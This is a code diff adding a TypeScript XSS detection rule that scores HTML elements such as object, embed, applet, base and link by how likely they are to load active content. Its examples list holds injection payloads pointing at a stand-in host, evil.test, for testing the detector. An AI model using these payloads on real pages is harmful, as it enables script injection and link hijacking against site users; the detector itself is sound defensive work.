@@ -1,0 +1,143 @@
+import { charClass } from '../../text/char-class.ts';
+import { type HtmlTag, html } from '../../tokenise/html.ts';
+import type { Match, ValueRule } from '../rule.ts';
+import type { Subject } from '../subject.ts';
+import { findAttribute, followsBreakout, isEmbedSite, isForeignUrl, plainValue } from './markup.ts';
+
+/** Elements that load something which can script the page, or change where all its URLs lead. */
+export const activeElement: ValueRule = {
+  id: 'xss.active-element',
+  category: 'xss',
+  cwe: 'CWE-79',
+  severity: 'high',
+  score: 85,
+  message: 'adds an element that loads active content or moves the base of all links',
+  trigger: {
+    classes: charClass.less,
+    literals: [
+      [
+        'object',
+        'embed',
+        'applet',
+        'base',
+        'link',
+        'layer',
+        'import',
+        'xml',
+        'attlist',
+        'bgsound',
+        'datasrc',
+        'formaction',
+        'math',
+        'urn:schemas',
+      ],
+    ],
+  },
+  judge: judgeActiveElement,
+  examples: [
+    '<embed src="//evil.test/x.swf" allowscriptaccess=always>',
+    "<base href='//evil.test/'>",
+    '<link rel=import href=//evil.test/x.html>',
+    '<object type=text/x-scriptlet data="http://evil.test/s.html">',
+    '<applet code=Evil.class codebase="http://evil.test/">',
+    '--><link rel=stylesheet href=//evil.test/x.css>',
+  ],
+  lookalikes: [
+    '<link rel="stylesheet" href="/static/site.css">',
+    '<link rel="stylesheet" href="https://cdn.example.org/site.css" type="text/css">',
+    '<embed src="https://www.youtube.com/v/abc" type="application/x-shockwave-flash">',
+    '<base href="/app/"><p>Hello</p>',
+    'Map<Object, List<Base>> m = new HashMap<>();',
+  ],
+};
+
+function judgeActiveElement(subject: Subject): Match | undefined {
+  const { text } = subject;
+  let best: Match | undefined;
+  let isInMath = false;
+  for (const tag of subject.tokens(html).tags) {
+    if (tag.name === 'math') isInMath = !tag.isEndTag;
+    if (tag.isEndTag || tag.attributes.length === 0) continue;
+    const isMathLink = isInMath && isForeignUrl(plainValue(text, tag, 'xlink:href'));
+    const score = isMathLink ? 75 : scoreOf(text, tag);
+    if (score <= (best?.score ?? 0)) continue;
+    best = { start: tag.start, end: tag.end, score };
+    if (score >= 85) break;
+  }
+  return best;
+}
+
+function scoreOf(text: string, tag: HtmlTag): number {
+  switch (tag.name) {
+    case 'object':
+      return scoreOfObject(text, tag);
+    case 'embed':
+      return scoreOfLoader(text, tag, ['src', 'code', 'href']);
+    case 'applet':
+      return scoreOfLoader(text, tag, ['code', 'codebase', 'archive', 'object']) > 0 ? 88 : 0;
+    case 'layer':
+    case 'ilayer':
+      return findAttribute(tag, 'src') === undefined ? 0 : 80;
+    case 'bgsound':
+      return scoreOfLoader(text, tag, ['src']);
+    case 'xml':
+      return findAttribute(tag, 'src') === undefined ? 0 : 75;
+    case '?namespace':
+      return plainValue(text, tag, 'ns').endsWith('microsoft-com:time') ? 75 : 0;
+    case 'base':
+      return isForeignUrl(plainValue(text, tag, 'href')) ? 85 : 0;
+    case 'link':
+      return scoreOfLink(text, tag);
+    case 'import':
+    case '?import':
+      return findAttribute(tag, 'implementation') === undefined ? 0 : 85;
+    case '?xml-stylesheet':
+      return plainValue(text, tag, 'href') === '' ? 0 : 75;
+    case '!attlist':
+      return tag.attributes.some(({ name }) => name.startsWith('on') && name.length > 5) ? 85 : 0;
+    default:
+      return scoreOfBinding(text, tag);
+  }
+}
+
+/** Attributes of any element: data from elsewhere, or a form that is sent elsewhere. */
+function scoreOfBinding(text: string, tag: HtmlTag): number {
+  if (isForeignUrl(plainValue(text, tag, 'formaction'))) return 78;
+  const isBound = findAttribute(tag, 'datasrc') !== undefined;
+  return isBound && findAttribute(tag, 'datafld') !== undefined ? 80 : 0;
+}
+
+function scoreOfObject(text: string, tag: HtmlTag): number {
+  if (plainValue(text, tag, 'allowscriptaccess') === 'always') return 80;
+  if (plainValue(text, tag, 'type').includes('scriptlet')) return 90;
+  const source = plainValue(text, tag, 'data');
+  if (source !== '') {
+    if (isEmbedSite(source)) return 20;
+    return isForeignUrl(source) || followsBreakout(text, tag.start) ? 80 : 50;
+  }
+  return findAttribute(tag, 'classid') === undefined ? 0 : 75;
+}
+
+function scoreOfLoader(text: string, tag: HtmlTag, names: readonly string[]): number {
+  const isTrusting = plainValue(text, tag, 'allowscriptaccess') === 'always';
+  for (const name of names) {
+    const url = plainValue(text, tag, name);
+    if (url === '') continue;
+    if (isEmbedSite(url)) return 20;
+    return isTrusting || isForeignUrl(url) || url.startsWith('data:') || tag.name === 'applet'
+      ? 82
+      : 55;
+  }
+  return 0;
+}
+
+/** Style sheets of foreign sites are in honest pages too, but then quoted and in no break-out. */
+function scoreOfLink(text: string, tag: HtmlTag): number {
+  const rel = plainValue(text, tag, 'rel');
+  const link = findAttribute(tag, 'href');
+  if (link === undefined) return 0;
+  if (rel === 'import') return 90;
+  if (rel !== 'stylesheet') return 0;
+  if (!isForeignUrl(plainValue(text, tag, 'href'))) return 0;
+  return link.quote === 0 || followsBreakout(text, tag.start) ? 80 : 50;
+}
